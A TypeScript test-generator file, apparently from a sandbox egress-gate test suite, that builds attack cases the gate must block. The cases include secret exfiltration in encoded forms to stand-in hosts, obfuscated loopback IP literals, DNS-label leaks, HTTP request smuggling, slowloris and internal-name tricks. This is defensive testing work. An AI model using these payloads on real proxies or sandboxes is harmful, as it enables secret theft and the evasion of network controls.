import type { Attack, AttackContext } from "../types.ts";
import { ENC_TOOLS, gate, q, withSecret } from "./common.ts";

// Categories 1, 2, 3, 7 (through the gate) and 8: everything that goes
// through the sandbox's one door and must be refused there.

export function gateAttacks(ctx: AttackContext): Attack[] {
  const list: Attack[] = [];
  const H = ctx.allowedHttpsUrl.replace(/\/$/, "");
  const P = ctx.allowedHttpUrl.replace(/\/$/, "");
  const hostPort = new URL(ctx.allowedHttpsUrl).host;
  const httpsPort = new URL(ctx.allowedHttpsUrl).port || "443";
  const httpPort = new URL(ctx.allowedHttpUrl).port || "80";
  const curl = ["curl"];
  const node = ["node"];

  // 1. Hosts that are not on the allowlist (the recording upstream answers
  // for this name too: a request let through arrives there).
  list.push(gate("1.http-host", 1, "non-allowlisted host over HTTP", "gate-policy", curl, (c) => `probe http://${c.evilHost}:${httpPort}/`));
  list.push(gate("1.https-host", 1, "non-allowlisted host over HTTPS", "gate-policy", curl, (c) => `probe https://${c.evilHost}:${httpsPort}/`));

  // 2. IP literals in every spelling, aimed at a receiver: the host's
  // loopback service (127.0.0.1 written as an integer, in hex, in octal,
  // shortened, IPv4-mapped IPv6). A door that lets one through delivers it
  // to that listener, where it is seen; a public address would be seen by
  // no one. Through the proxy explicitly: NO_PROXY covers 127.0.0.1.
  const lo = ctx.hostLoopback;
  const ips = ["127.0.0.1", "2130706433", "0x7f000001", "0177.0000.0000.0001", "127.1", "[::ffff:127.0.0.1]"];
  for (const ip of ips) {
    list.push(gate(`2.ip-${ip.replace(/[^0-9a-z]/gi, "")}`, 2, `IP literal ${ip}`, "gate-policy", curl, () => `probe -x "$CB_PROXY" --noproxy '' http://${ip}:${lo.port}/`));
  }
  list.push(gate("2.ip-https", 2, "IP literal over HTTPS", "gate-policy", curl, () => `probe -x "$CB_PROXY" --noproxy '' https://127.0.0.1:${lo.port}/`));
  list.push(
    gate("2.host-mismatch", 2, "Host header differs from the CONNECT target", "gate-policy", node, (c) =>
      `raw ${q(hostPort)} ${q(c.allowedHost)} 100 ${q(JSON.stringify(`GET / HTTP/1.1\r\nHost: ${c.evilHost}\r\nConnection: close\r\n\r\n`))}`,
    ),
  );
  list.push(
    gate("2.sni-mismatch", 2, "SNI differs from the CONNECT target", "gate-policy", node, (c) =>
      `raw ${q(hostPort)} ${q(c.evilHost)} 100 ${q(JSON.stringify(`GET / HTTP/1.1\r\nHost: ${hostPort}\r\nConnection: close\r\n\r\n`))}`,
    ),
  );

  // 3. A secret sent to an allowed host, every place and every encoding.
  const where: [string, (v: string) => string][] = [
    ["path", (v) => `probe "${H}/x/${v}"`],
    ["query", (v) => `probe "${H}/?k=${v}"`],
    ["header", (v) => `probe -H "X-Debug: ${v}" "${H}/"`],
    ["body", (v) => `probe --data-binary "note=${v}" "${H}/"`],
  ];
  const dlpTools = ["curl", ...ENC_TOOLS];
  for (const [w, f] of where) {
    list.push(gate(`3.${w}-raw`, 3, `secret in the ${w} (plain)`, "gate-dlp", dlpTools, (c) => withSecret(c, 0, f("$S"))));
  }
  for (const [enc, v] of [
    ["base64", "$b64"],
    ["url", "$pct"],
    ["hex", "$hex"],
  ] as const) {
    list.push(gate(`3.body-${enc}`, 3, `secret in the body (${enc})`, "gate-dlp", dlpTools, (c) => withSecret(c, 1, where[3]![1](v))));
    list.push(gate(`3.query-${enc}`, 3, `secret in the query (${enc})`, "gate-dlp", dlpTools, (c) => withSecret(c, 2, where[1]![1](v))));
  }
  for (let i = 0; i < ctx.secrets.length; i++) {
    list.push(
      gate(`3.shape-${ctx.secrets[i]!.name.toLowerCase()}`, 3, `${ctx.secrets[i]!.name} in the body`, "gate-dlp", dlpTools, (c) =>
        withSecret(c, i, where[3]![1]("$S")),
      ),
    );
  }
  list.push(
    gate("3.body-gzip", 3, "secret in a gzip-compressed body", "gate-dlp", [...dlpTools, "gzip"], (c) =>
      withSecret(c, 0, `printf 'hello %s bye' "$S" | gzip -c > /tmp/cb.gz\nprobe -H 'Content-Encoding: gzip' --data-binary @/tmp/cb.gz "${H}/"`),
    ),
  );
  list.push(
    gate("3.body-split-chunks", 3, "secret split across two chunks", "gate-dlp", ["node", "cut", "wc", ...ENC_TOOLS], (c) =>
      withSecret(
        c,
        0,
        `a=$(printf %s "$S" | cut -c1-10); b=$(printf %s "$S" | cut -c11-)
la=$(printf '%x' $(( $(printf %s "x=$a" | wc -c) ))); lb=$(printf '%x' $(printf %s "$b" | wc -c))
raw ${q(hostPort)} ${q(c.allowedHost)} 300 "\\"POST / HTTP/1.1\\\\r\\\\nHost: ${hostPort}\\\\r\\\\nTransfer-Encoding: chunked\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n\\"" "\\"$la\\\\r\\\\nx=$a\\\\r\\\\n\\"" "\\"$lb\\\\r\\\\n$b\\\\r\\\\n0\\\\r\\\\n\\\\r\\\\n\\""`,
      ),
    ),
  );
  // A copy of a secret in a workspace file no policy declares (a forgotten
  // `.env`): masking what the env holds does not reach it; only a door that
  // reads what leaves can stop it.
  if (ctx.workspaceSecret) {
    const w = ctx.workspaceSecret;
    list.push(
      gate("3.workspace-file", 3, `an undeclared copy of ${w.secretName} in a workspace file, posted`, "gate-dlp", ["curl"], () =>
        `probe --data-binary @${q(w.path)} "${H}/"`,
      ),
    );
  }
  // The same to the other allowed host: a door that injects a credential
  // per host must not deliver a secret to a host it was not meant for.
  list.push(
    gate("3.body-other-host", 3, "secret in the body to the other allowed host", "gate-dlp", dlpTools, (c) =>
      withSecret(c, 0, `probe --data-binary "note=$S" "https://${c.otherAllowedHost}:${httpsPort}/"`),
    ),
  );
  list.push(gate("3.http-plain", 3, "secret over plain HTTP to an allowed host", "gate-dlp", dlpTools, (c) => withSecret(c, 0, `probe "${P}/?k=$S"`)));

  // 4. A secret spelled as a DNS label under an allowed wildcard.
  list.push(
    gate("4.crafted-subdomain", 4, "secret as a subdomain under an allowed wildcard", "gate-dlp", [...dlpTools, "cut"], (c) =>
      withSecret(c, 3, `probe "https://$(printf %s "$S" | tr -c 'a-zA-Z0-9\\n' 'x' | cut -c1-60).${c.wildcardDomain}:${httpsPort}/"`),
    ),
  );

  // 7. Host services through the gate (-x: NO_PROXY covers 127.0.0.1, and
  // these attacks are about the gate).
  const l = ctx.hostLoopback;
  list.push(
    gate(`7.proxy-${l.label}`, 7, `host service on ${l.label} through the gate`, "gate-policy", curl, () =>
      `probe -x "$CB_PROXY" --noproxy '' http://${l.host}:${l.port}/`,
    ),
  );
  for (const t of ctx.hostTcp) {
    list.push(
      gate(`7.proxy-${t.label}`, 7, `host service on ${t.label} through the gate`, "gate-policy", curl, () =>
        `probe -x "$CB_PROXY" --noproxy '' http://${t.host.includes(":") ? `[${t.host}]` : t.host}:${t.port}/`,
      ),
    );
  }
  list.push(gate("7.proxy-localhost", 7, "localhost by name through the gate", "gate-policy", curl, () => `probe -x "$CB_PROXY" --noproxy '' http://localhost:${l.port}/`));

  // 8. The gate itself.
  const ph = new URL(P).host;
  list.push(
    gate("8.smuggle-cl-te", 8, "request smuggling (Content-Length + Transfer-Encoding)", "gate-parser", node, (c) =>
      `raw - - 50 ${q(JSON.stringify(`POST ${P}/ HTTP/1.1\r\nHost: ${ph}\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://${c.evilHost}:${httpPort}/ HTTP/1.1\r\nHost: ${c.evilHost}\r\n\r\n`))}`,
    ),
  );
  list.push(
    gate("8.smuggle-dup-cl", 8, "duplicate Content-Length", "gate-parser", node, () =>
      `raw - - 50 ${q(JSON.stringify(`POST ${P}/ HTTP/1.1\r\nHost: ${ph}\r\nContent-Length: 5\r\nContent-Length: 30\r\n\r\nhello`))}`,
    ),
  );
  list.push(
    gate("8.huge-headers", 8, "oversized headers", "gate-parser", node, () =>
      `raw - - 0 ${q(JSON.stringify(`GET ${P}/ HTTP/1.1\r\nHost: ${ph}\r\nX-Big: ${"a".repeat(100_000)}\r\n\r\n`))}`,
    ),
  );
  list.push(
    gate("8.slowloris", 8, "slowloris (headers never finish)", "gate-parser", node, () =>
      `raw - - 1500 ${q(JSON.stringify(`GET ${P}/ HTTP/1.1\r\n`))} ${Array.from({ length: 12 }, (_, i) => q(JSON.stringify(`X-${i}: a\r\n`))).join(" ")}`,
    ),
  );
  const internalTricks: [string, string][] = [
    ["unknown", "evil.bottle.internal"],
    ["suffix", "git.bottle.internal.evil.example"],
    ["userinfo", "git.bottle.internal@evil.example"],
  ];
  for (const [label, name] of internalTricks) {
    list.push(gate(`8.internal-${label}`, 8, `internal-name trick ${name}`, "gate-policy", curl, () => `probe -x "$CB_PROXY" "http://${name}/"`));
  }
  // The credential's placeholder outside the header its route names, to its
  // own host: a door that swaps it wherever it appears writes the real
  // credential into a body or header the upstream may store or show (a
  // gist, an issue comment, a log).
  list.push(
    gate("9.credential-in-body", 9, "credential placeholder in a request body to its own host", "gate-dlp", curl, (c) =>
      `probe --data-binary "note=$${c.credential.envVar}" "${H}/"`,
    ),
  );
  list.push(
    gate("9.credential-in-header", 9, "credential placeholder in another header to its own host", "gate-dlp", curl, (c) =>
      `probe -H "X-Debug: $${c.credential.envVar}" "${H}/"`,
    ),
  );
  list.push(
    gate("8.placeholder-elsewhere", 8, "credential placeholder sent to a host without that credential", "gate-dlp", curl, (c) =>
      `probe -H "Authorization: Bearer $${c.credential.envVar}" "https://${c.otherAllowedHost}:${httpsPort}/"`,
    ),
  );
  return list;
}
